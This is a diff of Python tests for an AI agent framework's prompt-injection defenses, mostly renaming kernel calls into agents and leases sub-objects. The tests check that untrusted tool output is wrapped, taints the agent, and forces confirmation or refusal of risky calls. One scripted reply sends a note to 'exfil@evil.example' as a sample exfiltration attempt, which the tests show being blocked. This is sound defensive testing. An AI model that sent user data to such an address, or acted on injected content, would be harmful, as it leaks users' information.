@@ -32,8 +32,8 @@ def make(make_env, outbox, **settings):
 def test_an_untrusted_result_is_wrapped_recorded_and_taints_the_agent(make_env):
     outbox: list = []
     env = make(make_env, outbox)
-    a = env.kernel.spawn("reader")
-    env.kernel.grant_lease(a.id, "net.fetch", 300)
+    a = env.kernel.agents.spawn("reader")
+    env.kernel.leases.grant(a.id, "net.fetch", 300)
     env.provider.script(reply(tools=(("read_page", {"url": URL}),)), reply("read it"))
     run(_send(env, a.id, "read the setup page"))
     [seen] = results_seen(env.provider, 1)
@@ -47,7 +47,7 @@ def test_an_untrusted_result_is_wrapped_recorded_and_taints_the_agent(make_env):
     assert entry.sha256 == hashlib.sha256(PAGE.encode()).hexdigest() and entry.size == len(PAGE)
     [result] = env.ledger.page(kind="result")
     assert entry.cause == result.seq
-    info = env.kernel.agent(a.id)
+    info = env.kernel.agents.get(a.id)
     assert info.tainted == f"read untrusted content from read_page {URL}"
     assert [e.agent.tainted for e in env.of(AgentTainted)] == [info.tainted]
     system = env.provider.requests[1].system
@@ -60,9 +60,9 @@ def test_an_untrusted_result_is_wrapped_recorded_and_taints_the_agent(make_env):
 def test_tainted_agent_asks_for_every_r3_call_even_with_a_live_lease(make_env):
     outbox: list = []
     env = make(make_env, outbox, policies={"mail.send": "ask"})  # a lease would cover it, were it not tainted
-    a = env.kernel.spawn("reader")
-    env.kernel.grant_lease(a.id, "net.fetch", 300)
-    lease = env.kernel.grant_lease(a.id, "mail.send", 3600)
+    a = env.kernel.agents.spawn("reader")
+    env.kernel.leases.grant(a.id, "net.fetch", 300)
+    lease = env.kernel.leases.grant(a.id, "mail.send", 3600)
     env.approver.will(ONCE, DENY)
     env.provider.script(
         reply(tools=(("send_note", {"to": "me@home.example", "text": "before"}),)),  # untainted: the lease covers it
@@ -87,16 +87,16 @@ def test_tainted_agent_asks_for_every_r3_call_even_with_a_live_lease(make_env):
     [denied] = env.ledger.page(kind="denied")
     assert denied.scope == "mail.send"
     assert [r.is_error for r in results_seen(env.provider, 4)] == [True]
-    assert env.kernel.leases(a.id)  # the live lease is still there, and still did not count
+    assert env.kernel.leases.list(a.id)  # the live lease is still there, and still did not count
     assert len(env.of(LeaseRequested)) == 2
 
 
 def test_unattended_tainted_agent_is_refused_r3_at_once_with_the_reason(make_env):
     outbox: list = []
     env = make(make_env, outbox, policies={"mail.send": "ask"})
-    a = env.kernel.spawn("nightly", unattended=True)
-    env.kernel.grant_lease(a.id, "net.fetch", 300)
-    env.kernel.grant_lease(a.id, "mail.send", 3600)
+    a = env.kernel.agents.spawn("nightly", unattended=True)
+    env.kernel.leases.grant(a.id, "net.fetch", 300)
+    env.kernel.leases.grant(a.id, "mail.send", 3600)
     env.provider.script(reply(tools=(("read_page", {"url": URL}),)),
                         reply(tools=(("send_note", {"to": "exfil@evil.example", "text": "x"}),)), reply("ok"))
     run(_send(env, a.id, "go"))
@@ -106,14 +106,14 @@ def test_unattended_tainted_agent_is_refused_r3_at_once_with_the_reason(make_env
     assert denied.reason.startswith("unattended: ") and "read untrusted content" in denied.reason
     [res] = results_seen(env.provider, 2)
     assert res.is_error and "nobody is there to confirm send_note" in res.content
-    assert env.kernel.agent(a.id).unattended and "refused" in env.provider.requests[2].system
+    assert env.kernel.agents.get(a.id).unattended and "refused" in env.provider.requests[2].system
 
 
 def test_r3_defaults_to_confirm_every_call_even_untainted(make_env):
     outbox: list = []
     env = make(make_env, outbox)
-    a = env.kernel.spawn("t")
-    env.kernel.grant_lease(a.id, "mail.send", 3600)
+    a = env.kernel.agents.spawn("t")
+    env.kernel.leases.grant(a.id, "mail.send", 3600)
     env.approver.will(ONCE, ONCE)
     env.provider.script(reply(tools=(("send_note", {"to": "x@y.example", "text": "1"}),)),
                         reply(tools=(("send_note", {"to": "x@y.example", "text": "2"}),)), reply("ok"))
@@ -124,8 +124,8 @@ def test_r3_defaults_to_confirm_every_call_even_untainted(make_env):
 
 
 async def _send(env, agent_id, text):
-    env.kernel.send(agent_id, text)
-    await env.kernel.wait(agent_id)
+    env.kernel.agents.send(agent_id, text)
+    await env.kernel.agents.wait(agent_id)
 
 
 def test_a_trusted_tool_passing_on_untrusted_text_names_its_source_and_is_wrapped(make_env):
@@ -138,11 +138,11 @@ def test_a_trusted_tool_passing_on_untrusted_text_names_its_source_and_is_wrappe
     skill = ToolDescriptor("summarise", "Summarise (test).", {"type": "object", "properties": {}}, {}, "read",
                            "skill.summarise", run_skill, risk=Risk.LOCAL_READ, trusted=True)
     env = make_env(tools=builtin_registry(extra=(skill,)))
-    a = env.kernel.spawn("t")
-    env.kernel.grant_lease(a.id, "skill", 300)
+    a = env.kernel.agents.spawn("t")
+    env.kernel.leases.grant(a.id, "skill", 300)
     env.provider.script(reply(tools=(("summarise", {}),)), reply("ok"))
     run(_send(env, a.id, "go"))
     [seen] = results_seen(env.provider, 1)
     assert seen.content.startswith('<untrusted source="skill summarise https://x.example" id="')
     assert "\u2039/UNTRUSTED>" in seen.content
-    assert env.kernel.agent(a.id).tainted == "read untrusted content from skill summarise https://x.example"
+    assert env.kernel.agents.get(a.id).tainted == "read untrusted content from skill summarise https://x.example"
